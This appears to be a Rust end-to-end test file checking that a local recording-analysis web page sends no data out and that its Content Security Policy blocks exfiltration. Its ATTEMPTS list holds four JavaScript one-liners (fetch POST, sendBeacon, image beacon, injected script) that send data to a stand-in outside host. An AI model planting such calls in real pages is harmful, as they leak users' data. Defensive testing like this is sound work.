//! Nothing leaves the page: the network is watched, and the policy is tried.

use serde_json::Value;

use crate::recordings::{choose, pascal};
use crate::session;

/// Marks in the network log where the page has loaded and a recording comes in.
const MARKER: &str = "index.html?recordings-follow";

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: cargo verify --only build --only e2e"]
async fn a_recording_causes_no_request_but_for_the_pages_own_files() {
    let Some(pascal) = pascal() else { return };
    let files = choose(&pascal, "set_b", 3);
    let aftermath = session::run(|page| async move {
        let marked: u16 = page.eval_async(&fetch_status(MARKER)).await;
        assert_eq!(marked, 200);
        page.choose(&files).await;
        page.results(files.len()).await;
    })
    .await;
    let marker = format!("{}{MARKER}", aftermath.url);
    let position = aftermath.requests.iter().position(|request| request.url == marker);
    let after = &aftermath.requests[position.expect("the marker is in the log") + 1..];
    for request in &aftermath.requests {
        assert_eq!(request.method, "GET", "{request:?}");
        assert!(request.url.starts_with(&aftermath.url), "{request:?}");
    }
    for request in after {
        assert!(!request.url.contains('?'), "{request:?} carries data");
    }
    eprintln!("{} requests to load, {} after", position.unwrap_or_default(), after.len());
}

/// A dropped file takes another way into the page than a chosen one.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: cargo verify --only build --only e2e"]
async fn a_dropped_file_stays_on_the_page() {
    let aftermath = session::run(|page| async move {
        page.eval::<Value>(DROP_A_TEXT).await;
        let shown = page.results(1).await;
        assert_eq!((shown[0].file.as_str(), shown[0].status.as_str()), ("note.wav", "refused"));
        let url = page.browser.current_url().await.unwrap();
        assert_eq!(url.as_str(), page.url, "the browser opened the dropped file");
    })
    .await;
    assert!(aftermath.requests.iter().all(|request| request.method == "GET"));
}

const DROP_A_TEXT: &str = r#"
const data = new DataTransfer();
data.items.add(new File(["no recording"], "note.wav"));
const drop = new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true });
document.querySelector("main, #page > *").dispatchEvent(drop);
return null;"#;

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: cargo verify --only build --only e2e"]
async fn the_policy_blocks_what_would_leave_the_page() {
    let aftermath = session::run(|page| async move {
        for (attempt, directive) in ATTEMPTS {
            let blocked: String = page.eval_async(&violation(attempt)).await;
            assert_eq!(blocked, directive, "{attempt}");
        }
        let refusals = page.console().await;
        assert!(!refusals.is_empty(), "the console tells of no violation");
    })
    .await;
    let left = aftermath.requests.iter().find(|r| r.url.contains("example.org"));
    assert_eq!(left, None);
}

/// Ways out of the page, and the directive that blocks each.
const ATTEMPTS: [(&str, &str); 4] = [
    (
        r#"fetch("https://example.org/", { method: "POST", body: "x" }).catch(() => 0)"#,
        "connect-src",
    ),
    (r#"navigator.sendBeacon("https://example.org/", "x")"#, "connect-src"),
    (r#"new Image().src = "https://example.org/?x""#, "img-src"),
    (
        r#"document.head.append(Object.assign(document.createElement("script"), { src: "https://example.org/" }))"#,
        "script-src-elem",
    ),
];

/// A script that does something forbidden and answers with the directive that forbade it.
fn violation(attempt: &str) -> String {
    format!(
        r#"const done = arguments[arguments.length - 1];
document.addEventListener(
    "securitypolicyviolation",
    (event) => done(event.effectiveDirective),
    {{ once: true }},
);
setTimeout(() => done("nothing"), 5000);
{attempt};"#
    )
}

fn fetch_status(path: &str) -> String {
    format!(
        r#"const done = arguments[arguments.length - 1];
fetch("{path}").then((reply) => done(reply.status));"#
    )
}
